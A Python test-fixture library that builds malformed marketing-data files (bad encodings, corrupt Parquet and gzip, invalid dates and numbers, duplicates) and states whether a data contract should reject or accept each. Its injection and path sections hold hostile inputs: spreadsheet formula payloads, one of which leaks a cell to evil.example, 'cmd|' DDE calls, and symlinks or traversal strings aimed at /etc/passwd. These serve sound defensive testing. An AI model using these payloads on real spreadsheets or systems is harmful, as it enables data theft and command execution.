"""A library of malformed landing zones (issue 20): each :class:`Case` breaks a small valid landing zone in one
way real files break, and says what the data contract (``docs/data-contract.md``) wants: rejected with an error
naming the file, the row or column and the rule, or accepted (and then what the rows must hold).

A case writes into a landing-zone root for one week (``{mon}`` .. ``{sun}``, ``{next}`` = the next Monday are
filled in), so the same case runs against the tiny zone of :func:`write_base` and against the demo world of a
real platform (cases with ``adds_only``: they only add files, so they do not depend on the base's file names).
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

from umm_assets.lib.contracts import ATTRIBUTION, CONTROLS, OUTCOMES, SPEND, TESTS, InputSpec

Write = Callable[[Path, dt.date], None]
WEEK = dt.date(2024, 1, 1)  # a Monday: the week of the base zone

SPEND_HEADER = "date,channel,spend\n"
TEST_HEADER = "test_id,channel,start_date,end_date,lift,lift_ci_lower,lift_ci_upper\n"
ATTRIBUTION_HEADER = "date,channel,attributed_revenue,model\n"


def days(week: dt.date) -> dict[str, str]:
    names = ("mon", "tue", "wed", "thu", "fri", "sat", "sun", "next")
    return {name: (week + dt.timedelta(days=i)).isoformat() for i, name in enumerate(names)}


def write_base(root: Path, week: dt.date = WEEK) -> None:
    """A valid landing zone: two channels of daily spend, outcomes, a control, one test and attribution."""
    d = days(week)
    daily = [d[k] for k in ("mon", "tue", "wed", "thu", "fri", "sat", "sun")]
    files = {
        "media_spend/spend.csv": SPEND_HEADER + "".join(f"{day},{c},{s}\n" for day in daily
                                                        for c, s in (("tv", 100), ("search", 40))),
        "outcomes/outcomes.csv": "date,revenue\n" + "".join(f"{day},1000\n" for day in daily),
        "controls/controls.csv": "date,price_index\n" + "".join(f"{day},100\n" for day in daily),
        "incrementality_tests/tests.csv": TEST_HEADER + f"T1,tv,{d['mon']},{d['sun']},100,50,150\n",
        "attribution/last_click.csv": ATTRIBUTION_HEADER + "".join(f"{day},search,300,last_click\n" for day in daily),
    }
    for rel, text in files.items():
        put(root, rel, text.encode())


def put(root: Path, rel: str, data: bytes) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# --- writers ------------------------------------------------------------------------------------


def text(rel: str, body: str, encoding: str = "utf-8", bom: bytes = b"") -> Write:
    """A text file; ``body`` may use ``{mon}`` .. ``{next}``."""
    return lambda root, week: put(root, rel, bom + body.format(**days(week)).encode(encoding))


def gzipped(rel: str, body: str, encoding: str = "utf-8") -> Write:
    return lambda root, week: put(root, rel, gzip.compress(body.format(**days(week)).encode(encoding)))


def binary(rel: str, make: Callable[[dict[str, str]], bytes]) -> Write:
    return lambda root, week: put(root, rel, make(days(week)))


def parquet_bytes(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    return buffer.getvalue()


def parquet(rel: str, frame: Callable[[dict[str, str]], pd.DataFrame]) -> Write:
    return binary(rel, lambda d: parquet_bytes(frame(d)))


def link(rel: str, target: Callable[[Path], Path | str]) -> Write:
    """A symbolic link at ``rel`` to ``target(root)``."""
    def write(root: Path, week: dt.date) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target(root))
    return write


def outside(name: str, body: str) -> Callable[[Path], Path]:
    """A valid file beside (not inside) the landing zone: a link to it must still not be read."""
    def target(root: Path) -> Path:
        path = root.parent / f"outside-{root.name}" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(body.format(**days(WEEK)))
        return path
    return target


def both(*writes: Write) -> Write:
    def write(root: Path, week: dt.date) -> None:
        for w in writes:
            w(root, week)
    return write


def spend_rows(*rows: str, rel: str = "media_spend/bad.csv") -> Write:
    return text(rel, SPEND_HEADER + "".join(f"{r}\n" for r in rows))


def spend_frame(d: dict[str, str], **columns) -> pd.DataFrame:
    return pd.DataFrame({"date": [d["tue"]], "channel": ["tv"], "spend": [1.0]} | columns)


# --- the case -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One malformed (or merely unusual) landing zone.

    ``expect``: texts the error must contain (file, row or column, rule); empty: the contract accepts it, and
    ``accepted(rows)`` (if given) says what the valid rows must hold. ``adds_only``: the case only adds files
    (it runs on any base landing zone, e.g. the demo world's)."""

    id: str
    family: str
    spec: InputSpec
    write: Write
    expect: tuple[str, ...] = ()
    accepted: Callable[[pd.DataFrame], bool] | None = None
    adds_only: bool = True

    @property
    def rejected(self) -> bool:
        return bool(self.expect)


def reject(id, family, spec, write, *expect, adds_only=True) -> Case:
    return Case(id, f"bad input: {family}", spec, write, tuple(expect), adds_only=adds_only)


def accept(id, family, spec, write, holds=None, adds_only=True) -> Case:
    return Case(id, f"bad input: {family}", spec, write, (), holds, adds_only)


def channels(rows: pd.DataFrame) -> set[str]:
    return set(rows["channel"])


NOT_UTF8 = "text is not valid UTF-8"
NUMBER = "must be a finite number"
ISO = "dates must be ISO YYYY-MM-DD"
RANGE = "date out of range"
MISSING_COLUMN = "required column is missing"
MISSING_VALUE = "required value is missing"
NEGATIVE = "must be non-negative"
CONTROL = "must not contain control characters"
DUPLICATE = "duplicated row: the key"
NO_SPEND = "channel has no spend anywhere in media_spend/"
OUTSIDE = "leads outside the landing zone: not read"
BAD = "media_spend/bad.csv"
ROW1 = "row 1 (line 2)"
QUOTE = '"'


def _utf16_no_bom(d):
    return (SPEND_HEADER + f"{d['tue']},tv,1\n").encode("utf-16-le")


ENCODINGS = [
    reject("latin-1 channel", "encodings", SPEND, text(BAD, SPEND_HEADER + "{tue},t\xe9l\xe9,1\n", encoding="latin-1"),
           BAD, "line 2", NOT_UTF8, "0xe9"),
    reject("cp1252 euro sign in a geo", "encodings", SPEND,
           text(BAD, "date,channel,spend,geo\n{tue},tv,1,\u20acurope\n", encoding="cp1252"), BAD, "line 2", "0x80"),
    reject("latin-1 in the header", "encodings", SPEND,
           text(BAD, "date,channel,spend,d\xe9pense\n{tue},tv,1,2\n", encoding="latin-1"), BAD, "line 1", NOT_UTF8),
    reject("UTF-16 LE with BOM (Excel 'Unicode text')", "encodings", SPEND,
           text(BAD, SPEND_HEADER + "{tue},tv,1\n", encoding="utf-16"), BAD, "line 1", NOT_UTF8, "0xff at offset 0"),
    reject("UTF-16 BE with BOM", "encodings", SPEND,
           binary(BAD, lambda d: b"\xfe\xff" + (SPEND_HEADER + f"{d['tue']},tv,1\n").encode("utf-16-be")),
           BAD, NOT_UTF8, "0xfe at offset 0"),
    reject("UTF-16 LE without BOM (NUL bytes)", "encodings", SPEND, binary(BAD, _utf16_no_bom),
           BAD, ROW1, "NUL byte"),
    reject("UTF-32", "encodings", SPEND, text(BAD, SPEND_HEADER + "{tue},tv,1\n", encoding="utf-32"),
           BAD, NOT_UTF8, "offset 0"),
    reject("invalid UTF-8 continuation byte", "encodings", SPEND,
           binary(BAD, lambda d: (SPEND_HEADER + f"{d['tue']},tv").encode() + b"\xc3\x28,1\n"), BAD, "line 2", "0xc3"),
    reject("CESU-8 surrogate", "encodings", SPEND,
           binary(BAD, lambda d: (SPEND_HEADER + f"{d['tue']},tv").encode() + b"\xed\xa0\x80,1\n"), BAD, "0xed"),
    reject("latin-1 inside a real gzip", "encodings", SPEND,
           gzipped("media_spend/bad.csv.gz", SPEND_HEADER + "{tue},t\xe9l\xe9,1\n", encoding="latin-1"),
           "media_spend/bad.csv.gz", "line 2", NOT_UTF8),
    reject("a second file's BOM in the middle (concatenated exports)", "encodings", SPEND,
           text(BAD, SPEND_HEADER + "{tue},tv,1\n\ufeff{wed},tv,1\n"), BAD, "row 2 (line 3)", "column 'date'", ISO),
    accept("UTF-8 BOM", "encodings", SPEND, text(BAD, SPEND_HEADER + "{tue},radio,7\n", bom=b"\xef\xbb\xbf"),
           lambda rows: "radio" in channels(rows)),
    accept("UTF-8 BOM in a gzip", "encodings", SPEND,
           binary("media_spend/bom.csv.gz", lambda d: gzip.compress(
               b"\xef\xbb\xbf" + (SPEND_HEADER + f"{d['tue']},radio,7\r\n").encode())),
           lambda rows: "radio" in channels(rows)),
    accept("non-ASCII UTF-8 channel kept exactly", "encodings", SPEND,
           text(BAD, SPEND_HEADER + "{tue},t\u00e9l\u00e9 \U0001f4fa,7\n"),
           lambda rows: "t\u00e9l\u00e9 \U0001f4fa" in channels(rows)),
    accept("NFC and NFD spellings are two channels (each distinct name is a channel)", "encodings", SPEND,
           text(BAD, SPEND_HEADER + "{tue},t\u00e9l\u00e9,7\n{tue},te\u0301le\u0301,7\n"),
           lambda rows: {"t\u00e9l\u00e9", "te\u0301le\u0301"} <= channels(rows)),
]


def _truncated_parquet(d):
    data = parquet_bytes(spend_frame(d))
    return data[: len(data) // 2]


def _corrupt_footer(d):
    data = parquet_bytes(spend_frame(d))
    return data[:-40] + b"\xff" * 32 + data[-8:]


def _bad_crc(d):
    data = bytearray(gzip.compress((SPEND_HEADER + f"{d['tue']},tv,1\n").encode()))
    data[-6] ^= 0xFF  # the CRC-32 of the trailer
    return bytes(data)


FORMATS = [
    reject("truncated Parquet", "file formats", SPEND, binary("media_spend/bad.parquet", _truncated_parquet),
           "media_spend/bad.parquet", "not a complete Parquet file"),
    reject("Parquet with a corrupt footer", "file formats", SPEND, binary("media_spend/bad.parquet", _corrupt_footer),
           "media_spend/bad.parquet", "unreadable Parquet file"),
    reject("Parquet magic only", "file formats", SPEND, binary("media_spend/bad.parquet", lambda d: b"PAR1PAR1"),
           "media_spend/bad.parquet", "unreadable Parquet file"),
    reject("CSV named .parquet", "file formats", SPEND, text("media_spend/bad.parquet", SPEND_HEADER + "{tue},tv,1\n"),
           "media_spend/bad.parquet", "missing PAR1 footer"),
    reject("zero-row Parquet", "file formats", SPEND,
           parquet("media_spend/bad.parquet", lambda d: spend_frame(d).iloc[0:0]),
           "media_spend/bad.parquet", "file has no data rows"),
    reject("random bytes named .csv.gz", "file formats", SPEND,
           binary("media_spend/bad.csv.gz", lambda d: os.urandom(64).replace(b"\x1f", b"x")),
           "media_spend/bad.csv.gz", "not gzip data"),
    reject("truncated gzip", "file formats", SPEND,
           binary("media_spend/bad.csv.gz", lambda d: gzip.compress(
               (SPEND_HEADER + f"{d['tue']},tv,1\n" * 50).encode())[:-12]),
           "media_spend/bad.csv.gz", "gzip stream is truncated or corrupt"),
    reject("gzip with a wrong CRC", "file formats", SPEND, binary("media_spend/bad.csv.gz", _bad_crc),
           "media_spend/bad.csv.gz", "CRC check failed"),
    reject("gzip of nothing", "file formats", SPEND, binary("media_spend/bad.csv.gz", lambda d: gzip.compress(b"")),
           "media_spend/bad.csv.gz", "file is empty (after gzip decompression)"),
    reject("gzip inside gzip", "file formats", SPEND,
           binary("media_spend/bad.csv.gz", lambda d: gzip.compress(gzip.compress(
               (SPEND_HEADER + f"{d['tue']},tv,1\n").encode()))), "media_spend/bad.csv.gz", NOT_UTF8),
    reject("zip archive named .csv", "file formats", SPEND,
           binary(BAD, lambda d: b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(128, 256))), BAD, NOT_UTF8),
    reject("Excel workbook (.xlsx)", "file formats", SPEND, binary("media_spend/bad.xlsx", lambda d: b"PK\x03\x04"),
           "media_spend/bad.xlsx", "unsupported file type"),
    reject("JSON export", "file formats", SPEND, text("media_spend/bad.json", '[{{"date": "{tue}"}}]'),
           "media_spend/bad.json", "unsupported file type"),
    reject("empty file", "file formats", SPEND, text(BAD, ""), BAD, "file is empty"),
    reject("whitespace only", "file formats", SPEND, text(BAD, " \n\r\n\t\n"), BAD, "file is empty"),
    reject("header only", "file formats", SPEND, text(BAD, SPEND_HEADER), BAD, "header but no data rows"),
    reject("ragged row", "file formats", SPEND, spend_rows("{tue},tv,1,surplus"), BAD, ROW1, "ragged row"),
    reject("short row", "file formats", SPEND, spend_rows("{tue},tv"), BAD, ROW1, "column 'spend'", MISSING_VALUE),
    reject("unterminated quote", "file formats", SPEND, spend_rows('{tue},"tv,1', "{wed},tv,2"),
           BAD, "malformed CSV", "EOF inside string"),
    reject("column named twice", "file formats", SPEND, text(BAD, "date,channel,spend,spend\n{tue},tv,1,2\n"),
           BAD, "column 'spend'", "appears 2 times in the header"),
    reject("Parquet column named twice", "file formats", SPEND,
           binary("media_spend/bad.parquet", lambda d: _twice_parquet(d)),
           "media_spend/bad.parquet", "column 'spend'", "appears 2 times"),
    reject("capitalized header", "file formats", SPEND, text(BAD, "Date,Channel,Spend\n{tue},tv,1\n"),
           BAD, "column 'date'", MISSING_COLUMN),
    reject("no header line", "file formats", SPEND, text(BAD, "{mon},tv,1\n{tue},tv,1\n"),
           BAD, "column 'channel'", MISSING_COLUMN),
    reject("semicolon-separated (European Excel)", "file formats", SPEND,
           text(BAD, "date;channel;spend\n{tue};tv;1,5\n"), BAD, ROW1, "ragged row"),
    reject("Excel 'sep=,' first line", "file formats", SPEND, text(BAD, "sep=,\n" + SPEND_HEADER + "{tue},tv,1\n"),
           BAD, ROW1, "ragged row"),
    reject("comment line above the header", "file formats", SPEND,
           text(BAD, "# exported by AdsTool 3.1\n" + SPEND_HEADER + "{tue},tv,1\n"), BAD, ROW1, "ragged row"),
    reject("spreadsheet totals row", "file formats", SPEND, spend_rows("{tue},tv,1", "Total,,1"),
           BAD, "row 2 (line 3)", "column 'date'", ISO),
    accept("CR-only line endings (classic Mac)", "file formats", SPEND,
           text(BAD, (SPEND_HEADER + "{tue},radio,1\n{wed},radio,2\n").replace("\n", "\r")),
           lambda rows: rows.loc[rows["channel"] == "radio", "spend"].sum() == 3),
    accept("Parquet named .csv", "file formats", SPEND,
           parquet(BAD, lambda d: spend_frame(d, channel=["radio"])), lambda rows: "radio" in channels(rows)),
    accept("upper-case .CSV extension", "file formats", SPEND,
           text("media_spend/EXTRA.CSV", SPEND_HEADER + "{tue},radio,1\n"), lambda rows: "radio" in channels(rows)),
]


def _twice_parquet(d) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_arrays([pa.array([d["tue"]]), pa.array(["tv"]), pa.array([1.0]), pa.array([2.0])],
                                 names=["date", "channel", "spend", "spend"])
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


NUMBERS = [
    reject(f"spend {label}", "numbers", SPEND, spend_rows(f"{{tue}},tv,{cell}"), BAD, ROW1, "column 'spend'", NUMBER)
    for label, cell in (("NaN", "NaN"), ("inf", "inf"), ("-Infinity", "-Infinity"), ("1e309 (overflows to inf)", "1e309"),
                        ("decimal comma", '"12,5"'), ("thousands separator", '"1,234.00"'),
                        ("currency symbol", "$12.50"), ("hex", "0x10"), ("N/A", "N/A"), ("digit grouping space", "1 000"))
] + [
    reject("1e308 twice in one week (sum overflows)", "numbers", SPEND, spend_rows("{tue},radio,1e308", "{wed},radio,1e308"),
           f"{BAD}, row 1", f"{BAD}, row 2", "not a finite number"),
    reject("Parquet NaN spend", "numbers", SPEND,
           parquet("media_spend/bad.parquet", lambda d: spend_frame(d, spend=[float("nan")])),
           "media_spend/bad.parquet", "row 1", "column 'spend'", MISSING_VALUE),
    reject("Parquet inf revenue", "numbers", OUTCOMES,
           parquet("outcomes/bad.parquet", lambda d: pd.DataFrame({"date": [d["tue"]], "revenue": [float("inf")]})),
           "outcomes/bad.parquet", "row 1", "column 'revenue'", NUMBER),
    reject("empty spend cell", "numbers", SPEND, spend_rows("{tue},tv,"), BAD, ROW1, "column 'spend'", MISSING_VALUE),
    reject("negative spend", "numbers", SPEND, spend_rows("{tue},tv,-5"), BAD, ROW1, "column 'spend'", NEGATIVE),
    reject("negative impressions", "numbers", SPEND, text(BAD, "date,channel,spend,impressions\n{tue},tv,1,-3\n"),
           BAD, ROW1, "column 'impressions'", NEGATIVE),
    reject("negative revenue", "numbers", OUTCOMES, text("outcomes/bad.csv", "date,revenue\n{tue},-1\n"),
           "outcomes/bad.csv", ROW1, "column 'revenue'", NEGATIVE),
    reject("negative attributed conversions", "numbers", ATTRIBUTION,
           text("attribution/bad.csv", "date,channel,attributed_revenue,attributed_conversions\n{tue},tv,1,-2\n"),
           "attribution/bad.csv", ROW1, "column 'attributed_conversions'", NEGATIVE),
    reject("negative test spend", "numbers", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER.replace("\n", ",spend\n") + "T9,tv,{mon},{sun},10,5,20,-100\n"),
           "incrementality_tests/bad.csv", ROW1, "column 'spend'", NEGATIVE),
    reject("text in a control column", "numbers", CONTROLS, text("controls/bad.csv", "date,promo\n{tue},high\n"),
           "controls/bad.csv", ROW1, "column 'promo'", "control columns must be numeric"),
    reject("inf in a control column", "numbers", CONTROLS, text("controls/bad.csv", "date,promo\n{tue},inf\n"),
           "controls/bad.csv", ROW1, "column 'promo'", "control columns must be numeric"),
    reject("confidence as a percentage", "numbers", TESTS,
           text("incrementality_tests/bad.csv",
                TEST_HEADER.replace("\n", ",confidence\n") + "T9,tv,{mon},{sun},10,5,20,90\n"),
           "incrementality_tests/bad.csv", ROW1, "column 'confidence'", "strictly between 0 and 1"),
    reject("lift interval upside down", "numbers", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,tv,{mon},{sun},10,20,5\n"),
           "incrementality_tests/bad.csv", ROW1, "lift_ci_lower must be <= lift_ci_upper"),
    reject("lift outside its interval", "numbers", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,tv,{mon},{sun},500,5,20\n"),
           "incrementality_tests/bad.csv", ROW1, "columns 'lift', 'lift_ci_lower', 'lift_ci_upper'",
           "lift must lie inside its own interval"),
    reject("controls of one date that disagree across files", "numbers", CONTROLS,
           text("controls/other.csv", "date,price_index\n{tue},99\n"),
           "controls/other.csv", "row 1", "controls/controls.csv",
           "conflicting values for one date", adds_only=False),
]

DATES = [
    reject(f"date {label}", "dates", SPEND, spend_rows(f"{cell},tv,1"), BAD, ROW1, "column 'date'", ISO)
    for label, cell in (("2024-02-30 (no such day)", "2024-02-30"), ("2023-02-29 (not a leap year)", "2023-02-29"),
                        ("month 13", "2024-13-01"), ("month 00", "2024-00-10"), ("day 32", "2024-01-32"),
                        ("US format", "01/02/2024"), ("slashes", "2024/01/02"), ("with a time", "{tue}T00:00:00"),
                        ("unpadded", "2024-1-2"), ("compact", "20240102"), ("Excel serial number", "45293"),
                        ("year 0", "0000-01-01"), ("Arabic-Indic digits", "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0662"),
                        ("full-width digits", "\uff12\uff10\uff12\uff14-\uff10\uff11-\uff10\uff12"))
] + [
    reject(f"date {label} (out of range)", "dates", SPEND, spend_rows(f"{cell},tv,1"), BAD, ROW1, "column 'date'", RANGE)
    for label, cell in (("9999-12-27", "9999-12-27"), ("1677-01-01", "1677-01-01"))
] + [
    reject("missing date", "dates", SPEND, spend_rows(",tv,1"), BAD, ROW1, "column 'date'", MISSING_VALUE),
    reject("test that ends before it starts", "dates", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,tv,{sun},{mon},10,5,20\n"),
           "incrementality_tests/bad.csv", ROW1, "end_date must not be before start_date"),
    reject("test start 2024-02-30", "dates", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,tv,2024-02-30,{sun},10,5,20\n"),
           "incrementality_tests/bad.csv", ROW1, "column 'start_date'", ISO),
] + [
    reject(f"Parquet dates of type {label}", "dates", SPEND,
           parquet("media_spend/bad.parquet", lambda d, v=values: spend_frame(d, date=v)),
           "media_spend/bad.parquet", "column 'date'", "date or timestamp type")
    for label, values in (("int64 (20240102)", [20240102]), ("float", [1.7e9]), ("bool", [True]))
] + [
    reject("weekly spend row beside daily rows", "dates", SPEND,
           text("media_spend/weekly.csv", SPEND_HEADER + "{mon},search,5000\n"), "media_spend/weekly.csv", "row 1",
           "beside daily rows of the same channel and week", "UMM_WEEKLY_BESIDE_DAILY=sum"),
    reject("weekly attribution row beside daily rows", "dates", ATTRIBUTION,
           text("attribution/weekly.csv", ATTRIBUTION_HEADER + "{mon},search,2000,last_click\n"), "attribution/weekly.csv",
           "row 1", "beside daily rows", adds_only=False),
    accept("timezone-aware Parquet timestamps", "dates", SPEND,
           parquet("media_spend/tz.parquet", lambda d: spend_frame(d, channel=["radio"], date=pd.to_datetime(
               [d["tue"]]).tz_localize("America/New_York"))), lambda rows: "radio" in channels(rows)),
    accept("padded date cell", "dates", SPEND, spend_rows("  {tue} ,radio,1"), lambda rows: "radio" in channels(rows)),
]


def _same(rel_a: str, rel_b: str, body: str) -> Write:
    return both(text(rel_a, body), text(rel_b, body))


DUPLICATES = [
    reject("same (date, channel) twice in one file", "duplicates", SPEND, spend_rows("{tue},tv,1", "{tue},tv,2"),
           BAD, "row 1", "row 2", DUPLICATE),
    reject("same key up to surrounding spaces", "duplicates", SPEND, spend_rows("{tue},tv,1", "{tue},tv ,2"),
           BAD, "row 2", DUPLICATE),
    reject("same (date, channel, geo) twice", "duplicates", SPEND,
           text(BAD, "date,channel,spend,geo\n{tue},tv,1,north\n{tue},tv,2,north\n"), BAD, "row 2", DUPLICATE),
    reject("same outcomes date twice", "duplicates", OUTCOMES, text("outcomes/bad.csv", "date,revenue\n{tue},1\n{tue},2\n"),
           "outcomes/bad.csv", "row 2", DUPLICATE),
    reject("same attribution (date, channel, model) twice", "duplicates", ATTRIBUTION,
           text("attribution/bad.csv", ATTRIBUTION_HEADER + "{tue},tv,1,lc\n{tue},tv,2,lc\n"), "attribution/bad.csv", "row 2",
           DUPLICATE),
    reject("same control date twice", "duplicates", CONTROLS, text("controls/bad.csv", "date,promo\n{tue},1\n{tue},0\n"),
           "controls/bad.csv", "row 2", DUPLICATE),
    reject("same test twice in one file", "duplicates", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,tv,{mon},{sun},10,5,20\nT9,tv,{mon},{sun},11,5,20\n"),
           "incrementality_tests/bad.csv", "row 2", DUPLICATE),
    reject("identical spend row in two files (re-upload)", "duplicates", SPEND,
           _same("media_spend/export.csv", "media_spend/export (1).csv", SPEND_HEADER + "{tue},search,123.45\n"),
           "media_spend/export.csv, row 1", "the same row as media_spend/export (1).csv row 1", "counted twice"),
    reject("identical row in a CSV and its Parquet copy", "duplicates", SPEND,
           both(text("media_spend/export.csv", SPEND_HEADER + "{tue},search,123.45\n"),
                parquet("media_spend/export.parquet", lambda d: spend_frame(d, channel=["search"], spend=[123.45]))),
           "media_spend/export.parquet, row 1", "the same row as media_spend/export.csv row 1"),
    reject("identical row in a CSV and its gzip in a subfolder", "duplicates", OUTCOMES,
           both(text("outcomes/x.csv", "date,revenue\n{tue},77\n"),
                gzipped("outcomes/2024/x.csv.gz", "date,revenue\n{tue},77\n")),
           "outcomes/x.csv, row 1", "the same row as outcomes/2024/x.csv.gz row 1"),
    reject("identical attribution row in two files", "duplicates", ATTRIBUTION,
           _same("attribution/a.csv", "attribution/b.csv", ATTRIBUTION_HEADER + "{tue},search,9,lc\n"),
           "attribution/b.csv, row 1", "the same row as attribution/a.csv row 1"),
    reject("copied tests file", "duplicates", TESTS,
           _same("incrementality_tests/a.csv", "incrementality_tests/a (copy).csv",
                 TEST_HEADER + "T9,tv,{mon},{sun},10,5,20\n"),
           "incrementality_tests/a.csv, row 1", "is also in incrementality_tests/a (copy).csv row 1",
           "once across all its files"),
    accept("same key, different values in two files (two agencies)", "duplicates", SPEND,
           both(text("media_spend/agency_a.csv", SPEND_HEADER + "{tue},radio,10\n"),
                text("media_spend/agency_b.csv", SPEND_HEADER + "{tue},radio,5\n")),
           lambda rows: rows.loc[rows["channel"] == "radio", "spend"].sum() == 15),
    accept("same (date, channel) in two geos", "duplicates", SPEND,
           text(BAD, "date,channel,spend,geo\n{tue},radio,1,north\n{tue},radio,2,south\n"),
           lambda rows: len(rows[rows["channel"] == "radio"]) == 2),
]

PATHS = [
    reject("symlink to /etc/passwd", "paths", SPEND, link("media_spend/passwd.csv", lambda root: "/etc/passwd"),
           "media_spend/passwd.csv", OUTSIDE),
    reject("symlink to a valid file outside the zone", "paths", SPEND,
           link("media_spend/elsewhere.csv", outside("spend.csv", SPEND_HEADER + "{tue},tv,1\n")),
           "media_spend/elsewhere.csv", OUTSIDE),
    reject("relative symlink climbing out with ../..", "paths", SPEND,
           link("media_spend/up.csv", lambda root: Path("../..") / outside("up.csv", SPEND_HEADER + "{tue},tv,1\n")(root)
                .relative_to(root.parent)), "media_spend/up.csv", OUTSIDE),
    reject("symlink to a folder outside the zone", "paths", SPEND,
           link("media_spend/more", lambda root: outside("s.csv", SPEND_HEADER + "{tue},tv,1\n")(root).parent),
           "media_spend/more", OUTSIDE),
    reject("symlink loop", "paths", SPEND,
           both(link("media_spend/loop_a.csv", lambda root: root / "media_spend" / "loop_b.csv"),
                link("media_spend/loop_b.csv", lambda root: root / "media_spend" / "loop_a.csv")),
           "media_spend/loop_a.csv", OUTSIDE),
    accept("symlink to a file inside the zone", "paths", SPEND,
           both(text("archive/radio.csv", SPEND_HEADER + "{tue},radio,3\n"),
                link("media_spend/radio.csv", lambda root: root / "archive" / "radio.csv")),
           lambda rows: "radio" in channels(rows)),
    accept("named pipe is not read (no hang)", "paths", SPEND,
           lambda root, week: os.mkfifo(root / "media_spend" / "pipe.csv"), lambda rows: channels(rows) >= {"tv"}),
] + [
    accept(f"{label} is skipped as in progress or hidden", "paths", SPEND,
           binary(f"media_spend/{name}", lambda d: os.urandom(32)), lambda rows: channels(rows) >= {"tv"})
    for label, name in (("LibreOffice lock file", ".~lock.spend.csv#"), ("Spark _SUCCESS marker", "_SUCCESS"),
                        ("browser download", "spend.csv.crdownload"), ("upload in progress", "spend.csv.part"))
] + [
    accept(f"channel named {name!r} stays text", "paths", SPEND, spend_rows(f"{{tue}},{name},1"),
           lambda rows, n=name: n in channels(rows))
    for name in ("tv/radio", "..", "../../etc/passwd", "C:\\Windows\\win.ini", "/abs/path")
]

UNKNOWN_CHANNELS = [
    reject("test of a channel with no spend", "unknown channels", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,radio,{mon},{sun},10,5,20\n"),
           "incrementality_tests/bad.csv", ROW1, "column 'channel'", NO_SPEND, "radio"),
    reject("attribution of a channel with no spend", "unknown channels", ATTRIBUTION,
           text("attribution/bad.csv", ATTRIBUTION_HEADER + "{tue},radio,5,lc\n"), "attribution/bad.csv", ROW1,
           "column 'channel'", NO_SPEND),
    reject("test channel in another case (TV vs tv)", "unknown channels", TESTS,
           text("incrementality_tests/bad.csv", TEST_HEADER + "T9,TV,{mon},{sun},10,5,20\n"),
           "incrementality_tests/bad.csv", ROW1, NO_SPEND, "'TV'"),
    reject("attribution channel with a Cyrillic look-alike letter", "unknown channels", ATTRIBUTION,
           text("attribution/bad.csv", ATTRIBUTION_HEADER + "{tue},\u0442v,5,lc\n"), "attribution/bad.csv", ROW1, NO_SPEND),
    reject("channel whose only spend row is invalid", "unknown channels", TESTS,
           both(spend_rows("{tue},radio,-1"),
                text("incrementality_tests/bad.csv", TEST_HEADER + "T9,radio,{mon},{sun},10,5,20\n")),
           "incrementality_tests/bad.csv", ROW1, NO_SPEND),
    reject("channel whose spend is only in a file still being written", "unknown channels", ATTRIBUTION,
           both(spend_rows("{tue},radio,1", rel="media_spend/radio.csv.part"),
                text("attribution/bad.csv", ATTRIBUTION_HEADER + "{tue},radio,5,lc\n")),
           "attribution/bad.csv", ROW1, NO_SPEND),
    reject("blank attribution channel", "unknown channels", ATTRIBUTION,
           text("attribution/bad.csv", ATTRIBUTION_HEADER + '{tue},"   ",5,lc\n'), "attribution/bad.csv", ROW1,
           "column 'channel'", "must not be blank"),
    accept("test channel with surrounding spaces", "unknown channels", TESTS,
           text("incrementality_tests/ok.csv", TEST_HEADER + 'T9," tv ",{mon},{sun},10,5,20\n'),
           lambda rows: "tv" in channels(rows)),
]

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0")
INJECTION = [
    accept(f"channel {formula[:12]!r}… stored as text", "injection", SPEND,
           binary(BAD, lambda d, f=formula: f'{SPEND_HEADER}{d["tue"]},"{f.replace(QUOTE, QUOTE * 2)}",1\n'.encode()),
           lambda rows, f=formula: f in channels(rows))
    for formula in FORMULAS
] + [
    accept("geo '=1+1' stored as text", "injection", SPEND, text(BAD, "date,channel,spend,geo\n{tue},tv,1,=1+1\n"),
           lambda rows: "=1+1" in set(rows["geo"])),
    accept("attribution model '=cmd' stored as text", "injection", ATTRIBUTION,
           text("attribution/x.csv", ATTRIBUTION_HEADER + "{tue},search,5,=cmd|' /C calc'!A0\n"),
           lambda rows: "=cmd|' /C calc'!A0" in set(rows["model"])),
    accept("test id '@SUM' stored as text", "injection", TESTS,
           text("incrementality_tests/x.csv", TEST_HEADER + "@SUM(A1),tv,{mon},{sun},10,5,20\n"),
           lambda rows: "@SUM(A1)" in set(rows["test_id"])),
    reject("tab-prefixed formula (a control character)", "injection", SPEND, spend_rows('{tue},"\t=1+1",1'),
           BAD, ROW1, "column 'channel'", CONTROL),
    reject("carriage-return-prefixed formula", "injection", SPEND, spend_rows('{tue},"\r=1+1",1'),
           BAD, ROW1, "column 'channel'", CONTROL),
]

CASES = [*ENCODINGS, *FORMATS, *NUMBERS, *DATES, *DUPLICATES, *PATHS, *UNKNOWN_CHANNELS, *INJECTION]
